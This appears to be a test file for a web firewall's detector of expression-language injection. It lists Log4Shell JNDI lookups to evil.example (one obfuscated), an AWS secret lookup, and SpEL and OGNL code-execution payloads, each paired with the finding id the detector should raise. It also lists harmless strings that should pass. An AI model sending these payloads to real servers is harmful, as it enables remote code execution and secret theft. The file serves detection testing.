// Look-ups and expressions that reach into the server, and texts with braces.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { subjectOf } from '../../../test/waf-asking.ts';
import { detectExpression } from './expression.ts';

/** A value, its name, whether it is a name itself, and the number of the finding; 0 where it is none that would block. */
const cases: readonly (readonly [string, string, boolean, number])[] = [
  ['${jndi:ldap://evil.example/a}', 'x', false, 1046001],
  ['${${lower:j}${::-n}di:${lower:l}dap://evil.example/a}', 'x', false, 1046001],
  ['${env:AWS_SECRET}', 'x', false, 1046002],
  ['T(java.lang.Runtime).getRuntime()', 'x', false, 1046003],
  ['%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}', 'x', false, 1046003],
  ['class.module.classLoader.URLs', 'x', false, 1046003],
  ['${name}, welcome', 'x', false, 0],
  ['@Value("${shop.url:http://localhost:8080}")', 'x', false, 0],
  ['at java.lang.Thread.run(Thread.java:748)', 'x', false, 0],
];

for (const [value, name, isName, id] of cases)
  test(`${JSON.stringify(value).slice(0, 80)} ${id === 0 ? 'passes' : `is ${id}`}`, () => {
    const found = detectExpression(subjectOf(value, name, isName));
    if (id === 0) return assert.ok((found?.score ?? 0) < 5, JSON.stringify(found));
    assert.equal(found?.id, id);
    assert.equal(found.score, 5);
    assert.ok(found.start >= 0 && found.start < found.end, JSON.stringify(found));
    assert.ok(!found.says.endsWith('.'));
  });
